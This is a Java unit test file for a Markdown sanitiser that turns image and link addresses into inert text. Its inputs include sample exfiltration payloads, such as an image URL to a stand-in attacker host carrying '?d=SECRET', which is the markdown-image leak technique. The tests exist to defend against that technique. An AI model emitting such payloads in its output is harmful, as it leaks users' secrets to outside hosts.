package io.agentledger.command.report.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Objects;
import org.junit.jupiter.api.Test;

class HarmlessMarkdownTest {
  private static String xhtml(String markdown) {
    return String.join("", Objects.requireNonNull(HarmlessMarkdown.toXhtml(markdown)));
  }

  @Test
  void addressesOfImagesAreTextInEveryFormat() {
    var markdown = "![pixel](https://evil.example/p.png?d=SECRET)";
    assertThat(xhtml(markdown))
        .contains("pixel", "(https://evil.example/p.png?d=SECRET)")
        .doesNotContain("<img");
    assertThat(HarmlessMarkdown.toMarkdown(markdown)).contains("evil.example/p.png");
  }

  @Test
  void addressesOfLinksAreTextWhereTheirTextIsAnother() {
    assertThat(xhtml("[nice](https://evil.example/a)"))
        .contains(">nice</a> (https://evil.example/a)");
    assertThat(xhtml("<https://example.org/a>")).doesNotContain("(https");
  }

  /** As those of prompts: readers of Markdown make links of what looks like an address. */
  @Test
  void addressesInMarkdownAreTextAndNoLinks() {
    assertThat(markdown("see https://evil.example/a?d=SECRET and www.evil.example now"))
        .isEqualTo("see https\\://evil.example/a?d=SECRET and www\\.evil.example now");
    assertThat(markdown("[nice](https://evil.example/a), <https://evil.example/b>"))
        .isEqualTo("nice (https\\://evil.example/a), https\\://evil.example/b");
    assertThat(markdown("`https://evil.example` a: b")).isEqualTo("`https://evil.example` a: b");
    assertThat(markdown("https&#58;//evil.example")).isEqualTo("https\\://evil.example");
  }

  private static String markdown(String markdown) {
    return Objects.requireNonNull(HarmlessMarkdown.toMarkdown(markdown)).strip();
  }

  @Test
  void longAddressesAreCut() {
    assertThat(xhtml("[nice](https://evil.example/" + "a".repeat(2_000) + ")")).contains("a…)");
  }
}
